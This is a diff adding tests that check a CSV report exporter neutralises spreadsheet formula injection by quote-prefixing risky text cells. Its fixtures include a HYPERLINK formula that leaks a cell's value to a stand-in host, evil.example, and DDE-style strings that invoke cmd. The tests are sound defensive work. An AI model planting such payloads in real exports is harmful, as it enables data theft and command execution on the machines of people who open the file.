@@ -59,3 +59,43 @@ describe('report CSV', () => {
     ]);
   });
 });
+
+describe('report CSV against formula injection', () => {
+  const textColumns: ReportColumn[] = [
+    { header: 'Cliente', type: 'text' },
+    { header: 'Valor', type: 'cents' },
+    { header: 'Qtd.', type: 'integer' },
+  ];
+
+  it('prefixes text cells a spreadsheet would run with a single quote; numbers stay numbers', async () => {
+    const hostile: Cell[][] = [
+      ['=HYPERLINK("http://evil.example/?"&A1;"Clique")', -1234, -2],
+      ['+55 11 98765-4321', 100, 1],
+      ["-2+3+cmd|' /C calc'!A0", 0, 0],
+      ["@SUM(1+1)*cmd|' /C calc'!A0", 5, 0],
+      ['\t=1+1', 1, 0],
+      ['\r=1+1', 1, 0],
+      ['Maria = José', -99, -7],
+      ["'já citado", 1, 0],
+    ];
+    const bytes = await bytesOf(renderCsv(textColumns, pagesOf(hostile), 'excel'));
+    const records = parse<string[]>(bytes, { delimiter: ';', bom: true });
+    expect(records.slice(1)).toEqual([
+      ['\'=HYPERLINK("http://evil.example/?"&A1;"Clique")', '-12,34', '-2'],
+      ["'+55 11 98765-4321", '1,00', '1'],
+      ["'-2+3+cmd|' /C calc'!A0", '0,00', '0'],
+      ["'@SUM(1+1)*cmd|' /C calc'!A0", '0,05', '0'],
+      ["'\t=1+1", '0,01', '0'],
+      ["'\r=1+1", '0,01', '0'],
+      ['Maria = José', '-0,99', '-7'],
+      ["'já citado", '0,01', '0'],
+    ]);
+    // No field of a hostile row starts with a trigger once read back, except the typed negative numbers.
+    for (const record of records.slice(1)) expect(record[0]).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it('keeps the guard in the RFC 4180 dialect too', async () => {
+    const bytes = await bytesOf(renderCsv(textColumns, pagesOf([['=1+1', -1, -1]]), 'rfc4180'));
+    expect(bytes.toString('utf8').split('\r\n')[1]).toBe("'=1+1,-0.01,-1");
+  });
+});
